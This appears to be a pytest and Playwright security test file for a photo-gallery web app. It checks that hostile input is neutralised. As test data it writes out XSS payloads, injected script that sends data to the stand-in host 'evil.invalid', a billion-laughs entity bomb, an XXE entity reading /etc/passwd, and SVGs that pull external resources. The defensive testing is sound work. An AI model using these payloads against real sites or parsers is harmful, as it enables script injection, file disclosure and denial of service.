"""What a hostile gallery, drawing or site can do in the browser."""

from collections.abc import Iterator
from pathlib import Path

import pytest
import torch
from PIL import Image, ImageDraw
from playwright.sync_api import Browser, Page, expect

from model.checkpoint.records import Photo
from model.gallery.build import build_gallery
from tests.harness.apps import running_app
from train.checkpoints import save_checkpoint
from train.networks.siamese import SiameseNetwork

IMG = "<img src=x onerror=window.owned=1>"
SCRIPT = '"><script>window.owned=2</script>'
LABELS = [IMG, SCRIPT, "' onload='window.owned=3", "${window.owned=4}{{window.owned=5}}"]
CREDIT = f"{IMG} {SCRIPT}"
LICENCE = "javascript:window.owned=6 <a href='javascript:window.owned=7'>CC BY 4.0</a>"

PHOTOS = '[data-part="results"] > li:not([data-gone])'

SERVE = """
import sys, uvicorn
from pathlib import Path
from server.application import build_app
from server.galleries import Galleries
galleries = Galleries({"hostile": Path(sys.argv[1])})
import os
uvicorn.run(build_app(galleries), port=int(os.environ["GRADIO_SERVER_PORT"]), log_level="error")
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app with a gallery whose labels, credits, licences and file names are HTML."""
    place = tmp_path_factory.mktemp("hostile")
    torch.manual_seed(0)
    checkpoint = save_checkpoint(
        place / "checkpoint",
        SiameseNetwork("resnet18", 8, 3),
        name=IMG,
        backbone="resnet18",
        input_size=32,
        classes=LABELS[:3],
        training={},
        metrics={},
    )
    photos = []
    for number, label in enumerate(LABELS * 4):
        path = place / f"{number} {IMG} \" '.jpg"
        photo = Image.new("RGB", (60, 40), "white")
        ImageDraw.Draw(photo).ellipse((number, 5, 40 + number, 35), fill="navy")
        photo.save(path)
        photos.append(Photo(str(path), label, CREDIT, LICENCE))
    build_gallery(checkpoint, photos, place / "gallery")
    (place / "serve.py").write_text(SERVE)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", ".")
        with running_app(place / "serve.py", place / "gallery") as address:
            yield address


@pytest.fixture
def opened(browser: Browser, hostile: str) -> Iterator[tuple[Page, list[str], list[str]]]:
    """The page, the URLs it requested, and the browser's errors and warnings."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    requests: list[str] = []
    complaints: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on(
        "console",
        lambda said: complaints.append(said.text) if said.type in ("error", "warning") else None,
    )
    page.goto(hostile)
    page.wait_for_selector('[data-part="examples"] button')
    yield page, requests, complaints
    context.close()


def test_html_in_labels_credits_licences_and_file_names_is_shown_as_text(
    opened: tuple[Page, list[str], list[str]], hostile: str
) -> None:
    page, requests, complaints = opened
    page.get_by_role("button", name="elephant").click()
    expect(page.locator(PHOTOS)).to_have_count(12)
    shown = page.locator('[data-part="results"]').inner_text()
    assert IMG in shown and SCRIPT in shown
    page.get_by_role("button", name="Map", exact=True).click()
    page.locator('[data-part="plane"]').hover()
    page.get_by_role("button", name="Photos", exact=True).click()
    page.locator(PHOTOS).first.locator("button").click()
    dialog = page.locator('[data-part="photo-dialog"]')
    expect(dialog).to_contain_text(CREDIT)
    expect(dialog).to_contain_text("javascript:window.owned=6")
    dialog.get_by_role("button", name="Why this photo?").click()
    links = dialog.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert links == ["https://creativecommons.org/licenses/by/4.0/"]
    dialog.locator('[data-action="without"]').click()
    expect(page.locator('[data-part="chips"]')).to_contain_text("window.owned")
    page.get_by_role("button", name="Share").click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.owned") is None
    assert page.locator("img[src=x]").count() == 0
    assert page.locator("a[href^=javascript]").count() == 0
    # Every request went to the app itself, and the page did nothing that its policy forbids.
    origin = (hostile, f"blob:{hostile}", "data:")
    assert [url for url in requests if not url.startswith(origin)] == []
    assert complaints == []


def test_an_injected_script_does_not_run(
    opened: tuple[Page, list[str], list[str]],
) -> None:
    page, _, complaints = opened
    page.evaluate(
        """() => {
            const holder = document.createElement("div");
            holder.innerHTML = "<img src='data:,x' onerror='window.owned=1'>"
                + "<a id=bad href='javascript:window.owned=2'>x</a>"
                + "<iframe src='https://evil.invalid/'></iframe>"
                + "<form id=sent action='https://evil.invalid/'></form>";
            document.body.append(holder);
            const inline = document.createElement("script");
            inline.textContent = "window.owned = 3";
            const outside = document.createElement("script");
            outside.src = "https://evil.invalid/x.js";
            document.body.append(inline, outside);
            document.getElementById("bad").click();
            document.getElementById("sent").submit();
            fetch("https://evil.invalid/stolen").catch(() => {});
            new Image().src = "https://evil.invalid/stolen.png";
        }"""
    )

    def refusals() -> int:
        return sum("Content Security Policy" in complaint for complaint in complaints)

    for _ in range(100):
        if refusals() >= 6:
            break
        page.wait_for_timeout(100)
    assert refusals() >= 6
    assert page.evaluate("window.owned") is None


BOMB = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "lol" * 10}">' for i in range(10))
DRAWN = '<path d="M20 20h60v60h-60z" fill="none" stroke="black" stroke-width="4"/>'


@pytest.mark.parametrize(
    "svg",
    [
        '<svg xmlns="http://www.w3.org/2000/svg" width="9e9" height="9e9">' + DRAWN + "</svg>",
        '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="100000000">' + DRAWN + "</svg>",
        '<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0">' + DRAWN + "</svg>",
        f'<!DOCTYPE svg [{BOMB}]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        f"{DRAWN}<text>&a9;</text></svg>",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">'
        '<!ENTITY y SYSTEM "http://evil.invalid/y">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        f"{DRAWN}<text y='50'>&x;&y;</text></svg>",
        '<?xml-stylesheet href="http://evil.invalid/a.css"?>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="100" height="100" onload="window.owned=1">'
        '<style>@import "http://evil.invalid/b.css"; @font-face{font-family:f;'
        "src:url(http://evil.invalid/f.woff)}text{font-family:f}</style>"
        '<use xlink:href="http://evil.invalid/c.svg#a"/><image href="http://evil.invalid/d.png" '
        'width="9" height="9"/><foreignObject width="50" height="50"><body '
        'xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.invalid/e"></iframe>'
        "<script>window.owned=2</script></body></foreignObject>"
        f"<script href='http://evil.invalid/g.js'/>{DRAWN}</svg>",
    ],
    ids=["vast", "tall", "nothing", "laughs", "entities", "references"],
)
def test_a_hostile_svg_is_only_painted(
    opened: tuple[Page, list[str], list[str]], tmp_path: Path, svg: str
) -> None:
    page, requests, _ = opened
    (tmp_path / "drawing.svg").write_text(svg)
    before = page.locator('[data-part="status"]').text_content()
    page.locator('[data-part="file"]').set_input_files(tmp_path / "drawing.svg")
    page.wait_for_function(
        """before => document.querySelector('[data-part="results"] li')
            || ![before, "Reading the picture …"].includes(
                document.querySelector('[data-part="status"]').textContent)""",
        arg=before,
    )
    assert page.evaluate("window.owned") is None
    assert not [url for url in requests if "evil.invalid" in url or url.startswith("file:")]


def test_the_server_does_not_read_an_svg_under_another_name(
    opened: tuple[Page, list[str], list[str]], tmp_path: Path
) -> None:
    page, _, _ = opened
    (tmp_path / "drawing.png").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' + DRAWN + "</svg>"
    )
    page.locator('[data-part="file"]').set_input_files(tmp_path / "drawing.png")
    expect(page.locator('[data-part="status"]')).to_contain_text("cannot be")
